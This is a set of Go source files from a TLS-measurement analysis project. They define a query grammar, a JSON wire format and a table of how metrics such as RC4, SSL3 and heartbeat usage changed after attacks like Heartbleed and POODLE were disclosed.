		"pct(agent:libraries / fp-conns)",
		"over(agent:* / fp-conns)",
		"count(fp:other)",
	} {
		p, err := CompileQuery(src, f)
		if err != nil {
			b.Fatal(err)
		}
		plans = append(plans, p)
	}
	buf := make([]float64, f.Len())
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, p := range plans {
			if p.Kind() == KindScalar {
				_ = p.EvalScalar()
			} else {
				p.EvalSeriesInto(buf)
			}
		}
	}
}
