package analysis

import (
	"fmt"
	"sort"
	"strconv"
	"strings"
	"time"

	"tlsage/internal/clientdb"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// Expr is a serializable metric expression over a Frame — the query API the
// figure catalog, the ad-hoc CLI/service queries and the impact metrics all
// share. Unlike the closure-based evaluators it replaces, an Expr is pure
// data: it marshals to JSON, round-trips through the compact text grammar
// (ParseQuery / String) and is evaluated by one interpreter (Frame.Query).
//
// An expression has one of three kinds:
//
//   - column: a dense per-month integer counter — a named frame column
//     ("established", "adv-rc4"), a keyed family selector
//     ("version:tls12", "class:aead", "kex:ecdhe", "ext:heartbeat",
//     "curve:x25519", "tls13:tls13-google"), a family wildcard summing every
//     observed key ("curve:*"), or an element-wise sum of columns.
//   - series: one float64 value per month — pct(num / den) with the figure
//     convention that an empty denominator yields 0, or position(class),
//     the Figure 5 relative-position metric. A column used where a series
//     is expected is promoted to its raw counts.
//   - scalar: a single value — at(series, YYYY-MM), over(num / den) (the
//     whole-window ratio), count(column), or mean/min/max/first/last of a
//     series.
type Expr struct {
	// Op is the node operation, one of the Op* constants.
	Op string `json:"op"`
	// Col is the column selector for OpCol (canonical lowercase form).
	Col string `json:"col,omitempty"`
	// Class is the suite class for OpPosition (canonical lowercase form).
	Class string `json:"class,omitempty"`
	// Month is the "YYYY-MM" row selector for OpAt.
	Month string `json:"month,omitempty"`
	// Args are the operand expressions (see each Op for arity).
	Args []*Expr `json:"args,omitempty"`
}

// Expression operations.
const (
	OpCol      = "col"      // column: named or family:key selector
	OpSum      = "sum"      // column: element-wise sum of column args
	OpPct      = "pct"      // series: 100·num/den per month (args: num, den)
	OpPosition = "position" // series: Figure 5 avg relative suite position
	OpAt       = "at"       // scalar: series value at Month (0 when absent)
	OpOver     = "over"     // scalar: 100·Σnum/Σden over the whole window
	OpCount    = "count"    // scalar: Σ of a column over the whole window
	OpMean     = "mean"     // scalar: arithmetic mean of a series
	OpMin      = "min"      // scalar: minimum of a series
	OpMax      = "max"      // scalar: maximum of a series
	OpFirst    = "first"    // scalar: first monthly value
	OpLast     = "last"     // scalar: last monthly value
)

// Kind classifies what an expression evaluates to.
type Kind uint8

// Expression kinds.
const (
	KindColumn Kind = iota // dense per-month integer counts
	KindSeries             // one float64 per month
	KindScalar             // a single float64
)

// String names the kind.
func (k Kind) String() string {
	switch k {
	case KindColumn:
		return "column"
	case KindSeries:
		return "series"
	case KindScalar:
		return "scalar"
	}
	return fmt.Sprintf("Kind(%d)", uint8(k))
}

// Kind returns the expression's result kind. Only meaningful for valid
// expressions; unknown ops report KindScalar.
func (e *Expr) Kind() Kind {
	switch e.Op {
	case OpCol, OpSum:
		return KindColumn
	case OpPct, OpPosition:
		return KindSeries
	}
	return KindScalar
}

// --- column vocabulary ---

// namedColumns maps the canonical name of every plain frame column to its
// accessor. Keyed counters (versions, classes, ...) go through the family
// selectors instead.
var namedColumns = map[string]func(*Frame) []int{
	"total":              func(f *Frame) []int { return f.Total },
	"established":        func(f *Frame) []int { return f.Established },
	"fingerprints":       func(f *Frame) []int { return f.FPTotal },
	"fp-conns":           func(f *Frame) []int { return f.FPConns },
	"adv-rc4":            func(f *Frame) []int { return f.AdvRC4 },
	"adv-des":            func(f *Frame) []int { return f.AdvDES },
	"adv-3des":           func(f *Frame) []int { return f.Adv3DES },
	"adv-aead":           func(f *Frame) []int { return f.AdvAEAD },
	"adv-export":         func(f *Frame) []int { return f.AdvExport },
	"adv-anon":           func(f *Frame) []int { return f.AdvAnon },
	"adv-null":           func(f *Frame) []int { return f.AdvNULL },
	"adv-aes128-gcm":     func(f *Frame) []int { return f.AdvAESGCM128 },
	"adv-aes256-gcm":     func(f *Frame) []int { return f.AdvAESGCM256 },
	"adv-chacha":         func(f *Frame) []int { return f.AdvChaCha },
	"adv-ccm":            func(f *Frame) []int { return f.AdvCCM },
	"adv-tls13":          func(f *Frame) []int { return f.AdvTLS13 },
	"offers-heartbeat":   func(f *Frame) []int { return f.OffersHeartbeat },
	"heartbeat-ack":      func(f *Frame) []int { return f.HeartbeatAck },
	"null-negotiated":    func(f *Frame) []int { return f.NULLNegotiated },
	"anon-negotiated":    func(f *Frame) []int { return f.AnonNegotiated },
	"export-negotiated":  func(f *Frame) []int { return f.ExportNegotiated },
	"unoffered-choice":   func(f *Frame) []int { return f.UnofferedChoice },
	"sslv2-hellos":       func(f *Frame) []int { return f.SSLv2Hellos },
	"fp-rc4":             func(f *Frame) []int { return f.FPRC4 },
	"fp-des":             func(f *Frame) []int { return f.FPDES },
	"fp-3des":            func(f *Frame) []int { return f.FP3DES },
	"fp-aead":            func(f *Frame) []int { return f.FPAEAD },
	"neg-aead":           func(f *Frame) []int { return f.NegAEAD },
	"neg-aes128-gcm":     func(f *Frame) []int { return f.NegGCM128 },
	"neg-aes256-gcm":     func(f *Frame) []int { return f.NegGCM256 },
	"neg-chacha":         func(f *Frame) []int { return f.NegChaCha },
	"kex-forward-secret": func(f *Frame) []int { return f.KexForwardSecret },
}

// versionKeys maps canonical (and alias) version names to wire values. The
// canonical form is the first spelling, e.g. "tls12".
var versionKeys = map[string]registry.Version{
	"ssl2": registry.VersionSSL2, "sslv2": registry.VersionSSL2,
	"ssl3": registry.VersionSSL3, "sslv3": registry.VersionSSL3,
	"tls10": registry.VersionTLS10, "tlsv10": registry.VersionTLS10,
	"tls11": registry.VersionTLS11, "tlsv11": registry.VersionTLS11,
	"tls12": registry.VersionTLS12, "tlsv12": registry.VersionTLS12,
	"tls13": registry.VersionTLS13, "tlsv13": registry.VersionTLS13,
	"tls13-draft18": registry.VersionTLS13Draft18, "tlsv13-draft18": registry.VersionTLS13Draft18,
	"tls13-draft28": registry.VersionTLS13Draft28, "tlsv13-draft28": registry.VersionTLS13Draft28,
	"tls13-google": registry.VersionTLS13Google, "tlsv13-google": registry.VersionTLS13Google,
}

// classKeys maps canonical class names to the Frame's suite-class map keys
// (shared by class: selectors and position()).
var classKeys = map[string]string{
	"aead": "AEAD", "cbc": "CBC", "rc4": "RC4",
	"des": "DES", "3des": "3DES", "stream": "Stream", "other": "other",
}

// kexKeys maps canonical key-exchange names to registry values.
var kexKeys = map[string]registry.KeyExchange{
	"null": registry.KexNULL, "rsa": registry.KexRSA,
	"dh": registry.KexDH, "dhe": registry.KexDHE,
	"ecdh": registry.KexECDH, "ecdhe": registry.KexECDHE,
	"psk": registry.KexPSK, "dhe-psk": registry.KexDHEPSK,
	"ecdhe-psk": registry.KexECDHEPSK, "rsa-psk": registry.KexRSAPSK,
	"srp": registry.KexSRP, "krb5": registry.KexKRB5,
	"gost": registry.KexGOST, "tls13": registry.KexTLS13,
}

// agentKeys maps the query grammar's client-class slugs to the clientdb
// class names the Agent columns are keyed by (the grammar's word bytes
// exclude spaces, '&' and '.', so "OS Tools and Services" queries as
// "agent:os-tools").
var agentKeys = map[string]string{
	"libraries":     string(clientdb.ClassLibrary),
	"browsers":      string(clientdb.ClassBrowser),
	"os-tools":      string(clientdb.ClassOSTool),
	"mobile-apps":   string(clientdb.ClassMobileApp),
	"dev-tools":     string(clientdb.ClassDevTool),
	"av":            string(clientdb.ClassAV),
	"cloud-storage": string(clientdb.ClassCloudStorage),
	"email":         string(clientdb.ClassEmail),
	"malware":       string(clientdb.ClassMalware),
}

// AgentSlug returns the agent: selector slug for a clientdb class name,
// ok=false for a class the vocabulary does not carry.
func AgentSlug(class string) (string, bool) {
	for slug, name := range agentKeys {
		if name == class {
			return slug, true
		}
	}
	return "", false
}

// isFPID reports whether s has the shape of an FPID column key: exactly 12
// lowercase hex digits. Any well-formed ID validates — an ID outside the
// frame's top-K set simply reads as the zero column, like any never-observed
// family key.
func isFPID(s string) bool {
	if len(s) != 12 {
		return false
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		if (c < '0' || c > '9') && (c < 'a' || c > 'f') {
			return false
		}
	}
	return true
}

// extKeys and curveKeys are derived from the registry name tables (IANA
// names are already lowercase). They are var-initialized, not filled in an
// init func, because the catalog's own initializer validates expressions
// against them.
var (
	extKeys = func() map[string]registry.ExtensionID {
		m := make(map[string]registry.ExtensionID)
		for _, e := range registry.AllExtensions() {
			m[e.String()] = e
		}
		return m
	}()
	curveKeys = func() map[string]registry.CurveID {
		m := make(map[string]registry.CurveID)
		for _, c := range registry.AllCurves() {
			// IANA curve names are folded ("brainpoolP256r1" queries as
			// "curve:brainpoolp256r1") so selectors stay case-insensitive.
			m[fold(c.String())] = c
		}
		return m
	}()
)

// columnFamilies routes a "family:key" selector to the frame map it reads.
// The wildcard key "*" sums every observed column of the family.
var columnFamilies = map[string]struct {
	resolve func(key string) bool            // key validity (canonical form)
	column  func(f *Frame, key string) []int // nil when never observed
	all     func(f *Frame) map[string][]int  // nil: family has no wildcard
}{
	"version": {
		resolve: func(k string) bool { _, ok := versionKeys[k]; return ok },
		column:  func(f *Frame, k string) []int { return f.Version[versionKeys[k]] },
		all:     func(f *Frame) map[string][]int { return intCols(f.Version) },
	},
	"class": {
		resolve: func(k string) bool { _, ok := classKeys[k]; return ok },
		column:  func(f *Frame, k string) []int { return f.Class[classKeys[k]] },
		all:     func(f *Frame) map[string][]int { return intCols(f.Class) },
	},
	"kex": {
		resolve: func(k string) bool { _, ok := kexKeys[k]; return ok },
		column:  func(f *Frame, k string) []int { return f.Kex[kexKeys[k]] },
		all:     func(f *Frame) map[string][]int { return intCols(f.Kex) },
	},
	"ext": {
		resolve: func(k string) bool { _, ok := extKeys[k]; return ok },
		column:  func(f *Frame, k string) []int { return f.Extension[extKeys[k]] },
		all:     func(f *Frame) map[string][]int { return intCols(f.Extension) },
	},
	"curve": {
		resolve: func(k string) bool { _, ok := curveKeys[k]; return ok },
		column:  func(f *Frame, k string) []int { return f.Curve[curveKeys[k]] },
		all:     func(f *Frame) map[string][]int { return intCols(f.Curve) },
	},
	"tls13": {
		resolve: func(k string) bool { _, ok := versionKeys[k]; return ok },
		column:  func(f *Frame, k string) []int { return f.TLS13Variant[versionKeys[k]] },
		all:     func(f *Frame) map[string][]int { return intCols(f.TLS13Variant) },
	},
	"fp": {
		resolve: func(k string) bool { return k == FPOtherKey || isFPID(k) },
		column:  func(f *Frame, k string) []int { return f.FPCol[k] },
		all:     func(f *Frame) map[string][]int { return f.FPCol },
	},
	"agent": {
		resolve: func(k string) bool { _, ok := agentKeys[k]; return ok },
		column:  func(f *Frame, k string) []int { return f.Agent[agentKeys[k]] },
		all:     func(f *Frame) map[string][]int { return f.Agent },
	},
}

// intCols erases a keyed column map's key type for the wildcard walk.
func intCols[K comparable](m map[K][]int) map[string][]int {
	out := make(map[string][]int, len(m))
	for k, c := range m {
		out[fmt.Sprint(k)] = c
	}
	return out
}

// ColumnNames lists every plain named column, sorted — the discoverable half
// of the column vocabulary (family selectors are open-ended).
func ColumnNames() []string {
	out := make([]string, 0, len(namedColumns))
	for n := range namedColumns {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// --- validation ---

// fold lowercases ASCII in place-ish; returns s unchanged (and unallocated)
// when it is already lowercase.
func fold(s string) string {
	for i := 0; i < len(s); i++ {
		if c := s[i]; c >= 'A' && c <= 'Z' {
			return strings.ToLower(s)
		}
	}
	return s
}

// checkColumn validates a column selector, returning its canonical
// (folded) form without touching the input.
func checkColumn(name string) (string, error) {
	name = fold(name)
	if _, ok := namedColumns[name]; ok {
		return name, nil
	}
	if i := strings.IndexByte(name, ':'); i >= 0 {
		fam, key := name[:i], name[i+1:]
		def, ok := columnFamilies[fam]
		if !ok {
			return "", fmt.Errorf("unknown column family %q (have version, class, kex, ext, curve, tls13, fp, agent)", fam)
		}
		if key == "*" || def.resolve(key) {
			return name, nil
		}
		return "", fmt.Errorf("unknown %s key %q", fam, key)
	}
	return "", fmt.Errorf("unknown column %q (see analysis.ColumnNames; family selectors are family:key)", name)
}

// parseMonth parses the grammar's "YYYY-MM" month literal.
func parseMonth(s string) (timeline.Month, error) {
	if len(s) != 7 || s[4] != '-' {
		return timeline.Month{}, fmt.Errorf("bad month %q (want YYYY-MM)", s)
	}
	y, err1 := strconv.Atoi(s[:4])
	m, err2 := strconv.Atoi(s[5:])
	if err1 != nil || err2 != nil || m < 1 || m > 12 {
		return timeline.Month{}, fmt.Errorf("bad month %q (want YYYY-MM)", s)
	}
	return timeline.M(y, time.Month(m)), nil
}

// Validate checks the expression tree without modifying it, so validating
// a shared expression (the catalog specs) is safe from any number of
// goroutines. Selectors match case-insensitively; an expression that
// validates cleanly cannot fail evaluation. ParseQuery additionally
// canonicalizes the trees it builds (see canonicalize).
func (e *Expr) Validate() error {
	if e == nil {
		return fmt.Errorf("nil expression")
	}
	arity := func(n int) error {
		if len(e.Args) != n {
			return fmt.Errorf("%s takes %d argument(s), got %d", e.Op, n, len(e.Args))
		}
		return nil
	}
	wantKind := func(a *Expr, k Kind) error {
		if err := a.Validate(); err != nil {
			return err
		}
		got := a.Kind()
		if got == k || (k == KindSeries && got == KindColumn) { // columns promote to series
			return nil
		}
		return fmt.Errorf("%s needs a %s argument, got %s (%s)", e.Op, k, got, a)
	}
	switch e.Op {
	case OpCol:
		if _, err := checkColumn(e.Col); err != nil {
			return err
		}
		if len(e.Args) != 0 {
			return fmt.Errorf("col takes no arguments")
		}
		return nil
	case OpSum:
		if len(e.Args) == 0 {
			return fmt.Errorf("sum needs at least one column")
		}
		for _, a := range e.Args {
			if err := wantKind(a, KindColumn); err != nil {
				return err
			}
		}
		return nil
	case OpPct, OpOver:
		if err := arity(2); err != nil {
			return err
		}
		for _, a := range e.Args {
			if err := wantKind(a, KindColumn); err != nil {
				return err
			}
		}
		return nil
	case OpPosition:
		if _, ok := classKeys[fold(e.Class)]; !ok {
			return fmt.Errorf("unknown suite class %q", e.Class)
		}
		if len(e.Args) != 0 {
			return fmt.Errorf("position takes no expression arguments")
		}
		return nil
	case OpAt:
		if err := arity(1); err != nil {
			return err
		}
		if _, err := parseMonth(e.Month); err != nil {
			return err
		}
		return wantKind(e.Args[0], KindSeries)
	case OpCount:
		if err := arity(1); err != nil {
			return err
		}
		return wantKind(e.Args[0], KindColumn)
	case OpMean, OpMin, OpMax, OpFirst, OpLast:
		if err := arity(1); err != nil {
			return err
		}
		return wantKind(e.Args[0], KindSeries)
	}
	return fmt.Errorf("unknown operation %q", e.Op)
}

// --- evaluation ---

// evalColumn resolves a validated column-kind expression to a dense []int
// aligned with the frame's months; nil means all-zero. Only sum nodes and
// family wildcards allocate (one scratch column each).
func (f *Frame) evalColumn(e *Expr) []int {
	switch e.Op {
	case OpCol:
		// fold is a no-op (and alloc-free) for canonical selectors; it keeps
		// evaluation of a JSON-decoded, never-canonicalized tree working.
		name := fold(e.Col)
		if get, ok := namedColumns[name]; ok {
			return get(f)
		}
		i := strings.IndexByte(name, ':')
		def := columnFamilies[name[:i]]
		if key := name[i+1:]; key != "*" {
			return def.column(f, key)
		}
		out := make([]int, f.Len())
		for _, c := range def.all(f) {
			for i, v := range c {
				out[i] += v
			}
		}
		return out
	case OpSum:
		out := make([]int, f.Len())
		for _, a := range e.Args {
			for i, v := range f.evalColumn(a) {
				out[i] += v
			}
		}
		return out
	}
	panic(fmt.Sprintf("analysis: evalColumn on %q node", e.Op))
}

// evalSeries evaluates a validated series- or column-kind expression into
// one float64 per month. The returned slice is the only allocation for
// pct/position over plain columns.
func (f *Frame) evalSeries(e *Expr) []float64 {
	out := make([]float64, f.Len())
	switch e.Op {
	case OpPct:
		num, den := f.evalColumn(e.Args[0]), f.evalColumn(e.Args[1])
		for i := range out {
			out[i] = pctAt(num, den, i)
		}
	case OpPosition:
		class := classKeys[fold(e.Class)]
		sums, counts := f.PosSum[class], f.PosCount[class]
		for i := range out {
			if c := at(counts, i); c != 0 {
				out[i] = 100 * sums[i] / float64(c)
			}
		}
	default: // column promotion: raw counts
		for i, v := range f.evalColumn(e) {
			out[i] = float64(v)
		}
	}
	return out
}

// evalScalar evaluates a validated scalar-kind expression.
func (f *Frame) evalScalar(e *Expr) float64 {
	switch e.Op {
	case OpAt:
		m, _ := parseMonth(e.Month) // validated
		row, ok := f.Row(m)
		if !ok {
			return 0
		}
		return f.evalSeries(e.Args[0])[row]
	case OpOver:
		num, den := sumCol(f.evalColumn(e.Args[0])), sumCol(f.evalColumn(e.Args[1]))
		if den == 0 {
			return 0
		}
		return 100 * float64(num) / float64(den)
	case OpCount:
		return float64(sumCol(f.evalColumn(e.Args[0])))
	}
	vals := f.evalSeries(e.Args[0])
	if len(vals) == 0 {
		return 0
	}
	switch e.Op {
	case OpMean:
		s := 0.0
		for _, v := range vals {
			s += v
		}
		return s / float64(len(vals))
	case OpMin:
		m := vals[0]
		for _, v := range vals[1:] {
			if v < m {
				m = v
			}
		}
		return m
	case OpMax:
		m := vals[0]
		for _, v := range vals[1:] {
			if v > m {
				m = v
			}
		}
		return m
	case OpFirst:
		return vals[0]
	case OpLast:
		return vals[len(vals)-1]
	}
	panic(fmt.Sprintf("analysis: evalScalar on %q node", e.Op))
}

// EvalSeries validates e and evaluates it as a monthly series (columns
// evaluate to their raw counts). Beyond validation bookkeeping, the result
// slice is the only per-month allocation for plain-column expressions.
func (f *Frame) EvalSeries(e *Expr) ([]float64, error) {
	if err := e.Validate(); err != nil {
		return nil, err
	}
	if e.Kind() == KindScalar {
		return nil, fmt.Errorf("expression %s is a scalar, not a series", e)
	}
	return f.evalSeries(e), nil
}

// EvalScalar validates e and evaluates it as a single value.
func (f *Frame) EvalScalar(e *Expr) (float64, error) {
	if err := e.Validate(); err != nil {
		return 0, err
	}
	if e.Kind() != KindScalar {
		return 0, fmt.Errorf("expression %s is a %s, not a scalar (wrap it in at/over/mean/...)", e, e.Kind())
	}
	return f.evalScalar(e), nil
}

// QueryResult is the answer to one expression query: a monthly series or a
// single scalar, tagged with the canonical form of the query it answers.
type QueryResult struct {
	// Query is the canonical text form of the evaluated expression.
	Query string
	// Kind is "series" or "scalar".
	Kind string
	// Series holds the monthly values when Kind == "series".
	Series Series
	// Value holds the result when Kind == "scalar".
	Value float64
}

// Query validates and evaluates an expression of any kind against the frame.
// Series results share the frame's month index (Series.Value is O(1)).
func (f *Frame) Query(e *Expr) (QueryResult, error) {
	if err := e.Validate(); err != nil {
		return QueryResult{}, err
	}
	src := e.String()
	if e.Kind() == KindScalar {
		return QueryResult{Query: src, Kind: "scalar", Value: f.evalScalar(e)}, nil
	}
	vals := f.evalSeries(e)
	pts := make([]Point, len(vals))
	for i, v := range vals {
		pts[i] = Point{Month: f.Months[i], Value: v}
	}
	return QueryResult{
		Query:  src,
		Kind:   "series",
		Series: Series{Name: src, Points: pts, index: f.index},
	}, nil
}

// QueryString parses src with ParseQuery and evaluates it.
func (f *Frame) QueryString(src string) (QueryResult, error) {
	e, err := ParseQuery(src)
	if err != nil {
		return QueryResult{}, err
	}
	return f.Query(e)
}
