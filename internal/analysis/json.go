package analysis

import "encoding/json"

// JSON marshalling for the query-service wire format. The shapes are
// deliberately flat and lowercase so the endpoints are pleasant to consume
// with curl/jq; months render as "YYYY-MM", dates as "YYYY-MM-DD".

// MarshalJSON renders a point as {"month":"2018-02","value":12.3}.
func (p Point) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		Month string  `json:"month"`
		Value float64 `json:"value"`
	}{p.Month.String(), p.Value})
}

// MarshalJSON renders a series as its name plus monthly points.
func (s Series) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		Name   string  `json:"name"`
		Points []Point `json:"points"`
	}{s.Name, s.Points})
}

// figureEventJSON is the wire shape of one attack-event marker.
type figureEventJSON struct {
	Name string `json:"name"`
	Date string `json:"date"`
}

// MarshalJSON renders a figure with its series and event markers.
func (f Figure) MarshalJSON() ([]byte, error) {
	events := make([]figureEventJSON, 0, len(f.Events))
	for _, e := range f.Events {
		events = append(events, figureEventJSON{Name: e.Name, Date: e.Date.String()})
	}
	return json.Marshal(struct {
		ID     string            `json:"id"`
		Title  string            `json:"title"`
		Series []Series          `json:"series"`
		Events []figureEventJSON `json:"events"`
	}{f.ID, f.Title, f.Series, events})
}

// MarshalJSON renders a scalar row including its derived deviation.
func (s Scalar) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		ID        string  `json:"id"`
		Name      string  `json:"name"`
		Paper     float64 `json:"paper"`
		Measured  float64 `json:"measured"`
		Deviation float64 `json:"deviation"`
		Unit      string  `json:"unit"`
	}{s.ID, s.Name, s.Paper, s.Measured, s.Deviation(), s.Unit})
}

// MarshalJSON renders a catalog entry as metadata: the metric evaluators are
// functions, so only the series names travel.
func (s FigureSpec) MarshalJSON() ([]byte, error) {
	series := make([]string, 0, len(s.Metrics))
	for _, m := range s.Metrics {
		series = append(series, m.Name)
	}
	return json.Marshal(struct {
		Num    int      `json:"num"`
		ID     string   `json:"id"`
		Name   string   `json:"name"`
		Title  string   `json:"title"`
		Series []string `json:"series"`
		Events []string `json:"events,omitempty"`
	}{s.Num, s.ID, s.Name, s.Title, series, s.Events})
}
