package analysis

import (
	"encoding/json"
	"fmt"
)

// JSON marshalling for the query-service wire format. The shapes are
// deliberately flat and lowercase so the endpoints are pleasant to consume
// with curl/jq; months render as "YYYY-MM", dates as "YYYY-MM-DD".

// MarshalJSON renders a point as {"month":"2018-02","value":12.3}.
func (p Point) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		Month string  `json:"month"`
		Value float64 `json:"value"`
	}{p.Month.String(), p.Value})
}

// UnmarshalJSON parses the wire shape back into a point (the remote-query
// client path).
func (p *Point) UnmarshalJSON(b []byte) error {
	var raw struct {
		Month string  `json:"month"`
		Value float64 `json:"value"`
	}
	if err := json.Unmarshal(b, &raw); err != nil {
		return err
	}
	m, err := parseMonth(raw.Month)
	if err != nil {
		return err
	}
	p.Month, p.Value = m, raw.Value
	return nil
}

// MarshalJSON renders a series as its name plus monthly points.
func (s Series) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		Name   string  `json:"name"`
		Points []Point `json:"points"`
	}{s.Name, s.Points})
}

// UnmarshalJSON parses a series; the month index is left nil, so Value
// falls back to a linear scan.
func (s *Series) UnmarshalJSON(b []byte) error {
	var raw struct {
		Name   string  `json:"name"`
		Points []Point `json:"points"`
	}
	if err := json.Unmarshal(b, &raw); err != nil {
		return err
	}
	s.Name, s.Points, s.index = raw.Name, raw.Points, nil
	return nil
}

// queryResultJSON is the wire shape of a query answer; Series is present
// only for series results.
type queryResultJSON struct {
	Query  string  `json:"query"`
	Kind   string  `json:"kind"`
	Series *Series `json:"series,omitempty"`
	Value  float64 `json:"value"`
}

// MarshalJSON renders a query result with its canonical query text.
func (r QueryResult) MarshalJSON() ([]byte, error) {
	out := queryResultJSON{Query: r.Query, Kind: r.Kind, Value: r.Value}
	if r.Kind == "series" {
		s := r.Series
		out.Series = &s
	}
	return json.Marshal(out)
}

// EncodeJSONBody renders the result exactly as the service's JSON writer
// does — two-space indent plus a trailing newline — so a body cached next to
// the QueryResult serves byte-identical to a freshly encoded response.
func (r QueryResult) EncodeJSONBody() ([]byte, error) {
	b, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		return nil, err
	}
	return append(b, '\n'), nil
}

// UnmarshalJSON parses a served query result (the remote-query client path).
func (r *QueryResult) UnmarshalJSON(b []byte) error {
	var raw queryResultJSON
	if err := json.Unmarshal(b, &raw); err != nil {
		return err
	}
	if raw.Kind != "series" && raw.Kind != "scalar" {
		return fmt.Errorf("query result kind %q (want series or scalar)", raw.Kind)
	}
	*r = QueryResult{Query: raw.Query, Kind: raw.Kind, Value: raw.Value}
	if raw.Series != nil {
		r.Series = *raw.Series
	}
	return nil
}

// figureEventJSON is the wire shape of one attack-event marker.
type figureEventJSON struct {
	Name string `json:"name"`
	Date string `json:"date"`
}

// MarshalJSON renders a figure with its series and event markers.
func (f Figure) MarshalJSON() ([]byte, error) {
	events := make([]figureEventJSON, 0, len(f.Events))
	for _, e := range f.Events {
		events = append(events, figureEventJSON{Name: e.Name, Date: e.Date.String()})
	}
	return json.Marshal(struct {
		ID     string            `json:"id"`
		Title  string            `json:"title"`
		Series []Series          `json:"series"`
		Events []figureEventJSON `json:"events"`
	}{f.ID, f.Title, f.Series, events})
}

// MarshalJSON renders a scalar row including its derived deviation.
func (s Scalar) MarshalJSON() ([]byte, error) {
	return json.Marshal(struct {
		ID        string  `json:"id"`
		Name      string  `json:"name"`
		Paper     float64 `json:"paper"`
		Measured  float64 `json:"measured"`
		Deviation float64 `json:"deviation"`
		Unit      string  `json:"unit"`
	}{s.ID, s.Name, s.Paper, s.Measured, s.Deviation(), s.Unit})
}

// metricSpecJSON is the wire shape of one catalog metric: its series name
// and its expression in the query grammar, so any catalog series can be
// re-evaluated through POST /query.
type metricSpecJSON struct {
	Name  string `json:"name"`
	Query string `json:"query"`
}

// MarshalJSON renders a catalog entry as metadata. The legacy "series" name
// list is kept alongside the expression-bearing "metrics".
func (s FigureSpec) MarshalJSON() ([]byte, error) {
	series := make([]string, 0, len(s.Metrics))
	metrics := make([]metricSpecJSON, 0, len(s.Metrics))
	for _, m := range s.Metrics {
		series = append(series, m.Name)
		metrics = append(metrics, metricSpecJSON{Name: m.Name, Query: m.Expr.String()})
	}
	return json.Marshal(struct {
		Num     int              `json:"num"`
		ID      string           `json:"id"`
		Name    string           `json:"name"`
		Title   string           `json:"title"`
		Series  []string         `json:"series"`
		Metrics []metricSpecJSON `json:"metrics"`
		Events  []string         `json:"events,omitempty"`
	}{s.Num, s.ID, s.Name, s.Title, series, metrics, s.Events})
}
