package analysis

import (
	"fmt"
	"io"

	"tlsage/internal/notary"
	"tlsage/internal/timeline"
)

// AttackImpact quantifies §7.4's discussion: for each high-profile event,
// how much the metric it targeted moved in the window around its disclosure
// versus the year after. "Sometimes spectacular, sometimes quite slow."
type AttackImpact struct {
	Event  timeline.Event
	Metric string
	// Before is the metric in the month preceding the event.
	Before float64
	// After6 and After12 are the metric 6 and 12 months after.
	After6, After12 float64
}

// Delta12 returns the 12-month change (negative = decline).
func (a AttackImpact) Delta12() float64 { return a.After12 - a.Before }

// impactMetrics pairs each event with the series the paper reads it
// against, expressed in the same query grammar as the figure catalog. The
// forward-secrecy metric reads the frame's build-time KexForwardSecret
// column instead of re-classifying key exchanges per call.
var impactMetrics = []struct {
	event  string
	metric string
	expr   *Expr
}{
	{timeline.EventRC4, "RC4 negotiated %", q("pct(class:rc4 / established)")},
	{timeline.EventRC4NoMore, "RC4 advertised %", q("pct(adv-rc4 / total)")},
	{timeline.EventSnowden, "forward-secret negotiated %", q("pct(kex-forward-secret / established)")},
	{timeline.EventLucky13, "CBC negotiated %", q("pct(class:cbc / established)")},
	{timeline.EventPOODLE, "SSL3 negotiated %", q("pct(version:ssl3 / established)")},
	{timeline.EventSweet32, "3DES advertised %", q("pct(adv-3des / total)")},
	{timeline.EventFREAK, "export advertised %", q("pct(adv-export / total)")},
	{timeline.EventHeartbleed, "heartbeat offered %", q("pct(offers-heartbeat / total)")},
}

// AttackImpacts evaluates every event/metric pair available in the
// aggregate's window.
func AttackImpacts(agg *notary.Aggregate) []AttackImpact {
	return AttackImpactsFrame(NewFrame(agg))
}

// AttackImpactsFrame evaluates the event/metric pairs against a frame.
func AttackImpactsFrame(f *Frame) []AttackImpact {
	var out []AttackImpact
	for _, im := range impactMetrics {
		date, ok := timeline.EventDate(im.event)
		if !ok {
			continue
		}
		m0 := timeline.MonthOf(date)
		before, okB := f.Row(m0.AddMonths(-1))
		after6, ok6 := f.Row(m0.AddMonths(6))
		after12, ok12 := f.Row(m0.AddMonths(12))
		if !okB || !ok6 || !ok12 {
			continue
		}
		ev := timeline.Event{Name: im.event, Date: date}
		for _, e := range timeline.Events() {
			if e.Name == im.event {
				ev = e
			}
		}
		imp := AttackImpact{Event: ev, Metric: im.metric}
		if p := f.planFor(im.expr); p != nil {
			// The compiled plan streams single rows, so reading the three
			// sample months never materializes the full series.
			imp.Before = p.seriesAt(before)
			imp.After6 = p.seriesAt(after6)
			imp.After12 = p.seriesAt(after12)
		} else {
			vals := f.evalSeries(im.expr)
			imp.Before = vals[before]
			imp.After6 = vals[after6]
			imp.After12 = vals[after12]
		}
		out = append(out, imp)
	}
	return out
}

// RenderImpacts writes the §7.4 table.
func RenderImpacts(w io.Writer, impacts []AttackImpact) error {
	if _, err := fmt.Fprintf(w, "%-14s %-12s %-28s %8s %8s %8s %8s\n",
		"event", "date", "metric", "before", "+6mo", "+12mo", "Δ12"); err != nil {
		return err
	}
	for _, im := range impacts {
		if _, err := fmt.Fprintf(w, "%-14s %-12s %-28s %7.1f%% %7.1f%% %7.1f%% %+7.1f\n",
			im.Event.Name, im.Event.Date, im.Metric,
			im.Before, im.After6, im.After12, im.Delta12()); err != nil {
			return err
		}
	}
	return nil
}
