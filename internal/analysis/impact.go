package analysis

import (
	"fmt"
	"io"

	"tlsage/internal/notary"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

// AttackImpact quantifies §7.4's discussion: for each high-profile event,
// how much the metric it targeted moved in the window around its disclosure
// versus the year after. "Sometimes spectacular, sometimes quite slow."
type AttackImpact struct {
	Event  timeline.Event
	Metric string
	// Before is the metric in the month preceding the event.
	Before float64
	// After6 and After12 are the metric 6 and 12 months after.
	After6, After12 float64
}

// Delta12 returns the 12-month change (negative = decline).
